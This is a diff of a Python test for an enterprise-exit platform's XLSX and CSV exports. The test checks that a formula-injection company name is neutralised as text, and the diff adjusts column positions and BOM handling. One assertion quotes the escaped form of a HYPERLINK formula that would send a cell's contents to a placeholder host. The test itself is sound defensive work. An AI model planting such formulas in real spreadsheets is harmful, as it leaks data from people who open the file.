@@ -70,7 +70,7 @@ def row_of(sheet: Worksheet, uscc: str) -> list[object]:
     """The row of the enterprise, as cells; asserting that no cell of the sheet is a formula."""
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert all(cell.data_type != "f" for cell in cells), "no cell may be a formula"
-    return next(list(row) for row in sheet.iter_rows() if row[1].value == uscc)
+    return next(list(row) for row in sheet.iter_rows() if row[3].value == uscc)
 
 
 async def test_a_formula_name_is_text_in_every_export(platform: Platform) -> None:
@@ -81,9 +81,9 @@ async def test_a_formula_name_is_text_in_every_export(platform: Platform) -> Non
     r = await agg.get("/v1/exits", params={**params, "format": "xlsx"}, headers=h)
     sheet = load_workbook(io.BytesIO(r.content))["退出清单"]
     cells = row_of(sheet, uscc)
-    name, item, amount = cells[2], cells[6], cells[7]
+    name, item, amount = cells[2], cells[5], cells[6]
     assert name.data_type == "s" and name.value == "'" + FORMULA  # type: ignore[attr-defined]
-    assert item.data_type == "s" and item.value == "kiln"  # type: ignore[attr-defined]
+    assert item.data_type == "s" and item.value in ("kiln", "建筑卫生陶瓷窑炉")  # type: ignore[attr-defined]
     assert amount.data_type == "n" and amount.value == 500000, "numbers stay numbers"  # type: ignore[attr-defined]
 
     r = await agg.get("/v1/reports/annual", params={"year": 2019, "format": "xlsx"}, headers=h)
@@ -97,13 +97,14 @@ async def test_a_formula_name_is_text_in_every_export(platform: Platform) -> Non
     assert r.content.startswith(b"\xef\xbb\xbf"), "the Chinese CSV opens with a UTF-8 BOM"
     text = r.content.decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://example.invalid/?leak=""&A1,""x"")"' in text
-    line = next(row for row in csv.reader(io.StringIO(text)) if row[1:2] == [uscc])
-    assert line[2] == "'" + FORMULA and line[3] == "坪山区"
+    line = next(row for row in csv.reader(io.StringIO(text)) if row[3:4] == [uscc])
+    assert line[2] == "'" + FORMULA and line[1] == "坪山区"
 
     r = await agg.get("/v1/exits", params={**params, "format": "csv", "lang": "en"}, headers=h)
-    assert r.text.startswith("No."), "the English CSV as before, without a BOM"
-    line = next(row for row in csv.reader(io.StringIO(r.text)) if row[1:2] == [uscc])
-    assert line[2] == "'" + FORMULA
+    assert r.content.startswith(b"\xef\xbb\xbfNo."), "the English CSV opens with a BOM too"
+    text = r.content.decode("utf-8-sig")
+    line = next(row for row in csv.reader(io.StringIO(text)) if row[3:4] == [uscc])
+    assert line[2] == "'" + FORMULA and line[1] == "Pingshan"
 
     r = await agg.get("/v1/reports/annual", params={"year": 2019, "format": "csv"}, headers=h)
     text = r.content.decode("utf-8")
